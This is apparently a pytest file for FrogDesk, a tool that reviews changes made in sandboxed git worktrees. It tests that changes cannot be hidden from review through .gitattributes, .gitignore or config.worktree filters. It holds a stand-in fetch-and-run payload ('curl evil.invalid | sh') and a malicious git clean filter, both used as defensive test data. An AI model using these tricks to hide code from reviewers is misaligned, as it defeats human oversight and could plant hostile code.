"""What the sandbox writes never decides how the review shows a change, nor runs in it.

Git reads `.gitattributes` from the work tree, and a worktree's `config.worktree` from its
admin folder, both of which a session can write. The review's diff reads attributes from
the base commit only, and its git never reads the admin folder's config.
"""

from __future__ import annotations

import json
from pathlib import Path

from frogdesk.review.diff import compute_diff, patch_text
from frogdesk.worktree.checkout import create_worktree
from frogdesk.worktree.git import run_git
from frogdesk.worktree.record import WORKTREE_CONFIG, file_digest, sidecar_of
from tests.support.review_helpers import git

HIDDEN = "os.system('curl evil.invalid | sh')\n"


def _repo(root: Path, attributes: str = "") -> Path:
    repo = root / "repo"
    (repo / "src").mkdir(parents=True)
    (repo / "src" / "app.py").write_text("import os\n\nprint('hi')\n", encoding="utf-8")
    (repo / "data.txt").write_text("one\n", encoding="utf-8")
    if attributes:
        (repo / ".gitattributes").write_text(attributes, encoding="utf-8")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    return repo


def test_attributes_the_sandbox_writes_do_not_hide_a_change(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    wt = create_worktree(repo, tmp_path / "worktrees", "s1")
    app = wt.path / "src" / "app.py"
    app.write_text(app.read_text(encoding="utf-8") + HIDDEN, encoding="utf-8")
    # The attack: mark the file binary, and hide the two files that do it from the review.
    (wt.path / "src" / ".gitattributes").write_text("app.py -diff\n", encoding="utf-8")
    (wt.path / "src" / ".gitignore").write_text(".gitattributes\n.gitignore\n", encoding="utf-8")
    diff = compute_diff(wt.path, wt.base_commit)
    # Nor is the sandbox's .gitignore a rule: the two files that attack are listed as well.
    paths = sorted(c.path for c in diff.files)
    assert paths == ["src/.gitattributes", "src/.gitignore", "src/app.py"]
    change = next(c for c in diff.files if c.path == "src/app.py")
    assert not change.binary
    added = [line for hunk in change.hunks for line in hunk.new_lines]
    assert HIDDEN.encode() in added
    patch, _ = patch_text(wt.path, wt.base_commit)
    assert "+" + HIDDEN in patch


def test_the_users_committed_attributes_still_count(tmp_path: Path) -> None:
    """The control: the same attribute committed in the user's repository is honoured, so
    the test above shows where attributes are read from, not that they are never read."""
    repo = _repo(tmp_path, attributes="src/app.py -diff\n")
    wt = create_worktree(repo, tmp_path / "worktrees", "s1")
    app = wt.path / "src" / "app.py"
    app.write_text(app.read_text(encoding="utf-8") + HIDDEN, encoding="utf-8")
    [change] = compute_diff(wt.path, wt.base_commit).files
    assert change.binary


def test_the_review_never_reads_the_worktrees_config(tmp_path: Path) -> None:
    """A config.worktree that defines a clean filter, read by git after FrogDesk checked it
    (a sandboxed loop swapping the file wins that race under Landlock), stands in here as a
    file whose digest the record already holds. The review's git does not read it; the
    control: git pinned to the admin folder, as before, runs the filter."""
    repo = _repo(tmp_path)
    git(repo, "config", "extensions.worktreeConfig", "true")
    wt = create_worktree(repo, tmp_path / "worktrees", "s1")
    marker = tmp_path / "filter-ran"
    config = wt.git_dir / WORKTREE_CONFIG
    config.write_text(
        f'[filter "pwn"]\n\tclean = "sh -c \'touch {marker}; cat\'"\n', encoding="utf-8"
    )
    record = json.loads(sidecar_of(wt.path).read_text(encoding="utf-8"))
    record["worktree_config"] = file_digest(config)  # the check saw what git will read
    sidecar_of(wt.path).write_text(json.dumps(record), encoding="utf-8")
    (wt.path / ".gitattributes").write_text("* filter=pwn\n", encoding="utf-8")
    (wt.path / "data.txt").write_text("two\n", encoding="utf-8")

    diff = compute_diff(wt.path, wt.base_commit)
    patch_text(wt.path, wt.base_commit)
    assert {c.path for c in diff.files} == {".gitattributes", "data.txt"}
    assert not marker.exists()

    env = {"GIT_INDEX_FILE": str(tmp_path / "control-index")}
    run_git(wt.path, ["add", "-A", "--", "."], env=env)
    assert marker.exists()


def test_attributes_the_sandbox_writes_run_no_filter_of_the_users_config(tmp_path: Path) -> None:
    """The filter is defined where the sandbox cannot write (the user's own config, as `git lfs
    install` does); the sandbox only selects it. The snapshot reads the file itself, so the
    command never runs; the control: `git add` over that worktree runs it."""
    repo = _repo(tmp_path)
    marker = tmp_path / "filter-ran"
    git(repo, "config", "filter.demo.clean", f"sh -c 'touch {marker}; cat'")
    wt = create_worktree(repo, tmp_path / "worktrees", "s1")
    (wt.path / ".gitattributes").write_text("* filter=demo\n", encoding="utf-8")
    (wt.path / "data.txt").write_text("two\n", encoding="utf-8")

    diff = compute_diff(wt.path, wt.base_commit)
    patch_text(wt.path, wt.base_commit)
    assert {c.path for c in diff.files} == {".gitattributes", "data.txt"}
    assert not marker.exists()

    env = {"GIT_INDEX_FILE": str(tmp_path / "control-index")}
    run_git(wt.path, ["add", "-A", "--", "."], env=env)
    assert marker.exists()


def test_line_endings_follow_the_base_commits_attributes_only(tmp_path: Path) -> None:
    """A committed `eol=crlf` file checked out with CRLF is no change (git add normalizes it
    too); a CRLF file the sandbox marks `text` in its own `.gitattributes` keeps its bytes."""
    repo = _repo(tmp_path, attributes="*.bat text eol=crlf\n")
    (repo / "run.bat").write_bytes(b"echo one\necho two\n")
    (repo / "raw.txt").write_bytes(b"a\r\nb\r\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "bat")
    wt = create_worktree(repo, tmp_path / "worktrees", "s1")
    assert (wt.path / "run.bat").read_bytes() == b"echo one\r\necho two\r\n"
    assert compute_diff(wt.path, wt.base_commit).files == ()

    (wt.path / "run.bat").write_bytes(b"echo one\r\necho TWO\r\n")
    (wt.path / "raw.txt").write_bytes(b"a\r\nB\r\n")
    (wt.path / "more.txt").write_bytes(b"x\r\n")
    (wt.path / ".gitattributes").write_text("*.txt text\n*.bat text eol=crlf\n", encoding="utf-8")
    diff = compute_diff(wt.path, wt.base_commit)
    by_path = {c.path: c for c in diff.files}
    bat = [line for hunk in by_path["run.bat"].hunks for line in hunk.new_lines]
    assert b"echo TWO\n" in bat  # normalized by the committed attribute
    raw = [line for hunk in by_path["raw.txt"].hunks for line in hunk.new_lines]
    assert b"B\r\n" in raw  # not normalized by the sandbox's attribute
    assert by_path["more.txt"].hunks[0].new_lines == (b"x\r\n",)
